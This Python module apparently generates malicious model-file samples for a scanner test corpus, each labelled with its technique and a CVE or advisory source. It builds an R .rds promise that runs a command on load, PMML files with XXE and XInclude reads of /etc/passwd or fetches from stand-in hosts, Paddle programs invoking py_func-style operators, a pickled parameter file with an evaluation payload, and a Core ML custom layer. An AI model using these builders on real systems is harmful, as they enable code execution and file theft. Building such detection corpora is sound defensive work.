"""Formats of other tools: R, PMML, Core ML, TFLite, PaddlePaddle."""

from __future__ import annotations

import gzip
import struct
from collections.abc import Iterator

from corpus.formats.protobuf import message
from corpus.sample import Sample, Variation

FAMILY = "other formats"
PROMISE = "CVE-2024-27322"
ENTITY = "https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing"
PADDLE = "CVE-2024-0521"
OPERATORS = "https://github.com/PaddlePaddle/Paddle/tree/develop/security/advisory"


def samples(vary: Variation) -> Iterator[Sample]:
    """One or two for each."""
    for technique, source, name, data in _rows(vary):
        yield Sample(name=name, data=data, family=FAMILY, technique=technique, source=source)
    yield Sample(
        name="model.mlmodel",
        data=_custom_layer(vary.pick(("EvilLayer", "Shell"))),
        family=FAMILY,
        technique="Core ML: a custom layer, which is the app's own code",
        source="https://apple.github.io/coremltools/mlmodel/Format/NeuralNetwork.html",
        expected="not harmless",
    )


def _rows(vary: Variation) -> Iterator[tuple[str, str, str, bytes]]:
    promise = _promise(vary.pick(("system", "eval", "source")), vary.command())
    yield "R: a promise that runs when it is read", PROMISE, "model.rds", gzip.compress(promise, mtime=0)
    yield "R: the same, not compressed", PROMISE, "model.rds", promise
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><!-- {vary.word()} -->'
    pmml = f'<?xml version="1.0"?>{entity}<PMML version="4.4"><Header copyright="&e;"/></PMML>'
    yield "PMML: an external entity", ENTITY, "model.pmml", pmml.encode()
    included = (
        '<PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header/>'
        f'<xi:include href="{vary.pick(("file:///etc/passwd", "http://x.invalid/x"))}"/></PMML>'
    )
    yield "PMML: another document included", ENTITY, "model.pmml", included.encode()
    grammar = (
        f'<!DOCTYPE PMML SYSTEM "http://{vary.word()}.invalid/x.dtd"><PMML version="4.4"><Header/></PMML>'
    )
    yield "PMML: a grammar from elsewhere", ENTITY, "model.pmml", grammar.encode()
    operator = vary.pick(("py_func", "py_layer", "run_program"))
    block = message((1, 0), (2, 0), (3, message((1, "x"))), (4, message((3, operator))))
    program = message((1, block), (4, message((1, 0))))
    yield f"Paddle: a program that calls {operator}", OPERATORS, "model.pdmodel", program
    state = vary.pickled({"w": [1.0], "x": vary.evaluation()}, 2)
    yield "Paddle: a pickle of parameters", PADDLE, "model.pdparams", state


def _custom_layer(name: str) -> bytes:
    layer = message((1, "custom"), (500, message((10, name))))
    return message((1, 4), (2, message((1, message((1, "in"))))), (500, message((1, layer))))


def _promise(function: str, command: str) -> bytes:
    """A serialized promise (R internals, 1.8): its value is not there yet, and its expression is a call."""

    def text(value: str) -> bytes:
        return struct.pack(">II", 0x00040009, len(value)) + value.encode()

    head = b"X\n" + struct.pack(">IIII", 3, 0x00040300, 0x00030500, 5) + b"UTF-8"
    argument = struct.pack(">II", 16, 1) + text(command)
    call = (
        struct.pack(">II", 6, 1) + text(function) + struct.pack(">I", 2) + argument + struct.pack(">I", 254)
    )
    return head + struct.pack(">III", 0x405, 253, 252) + call
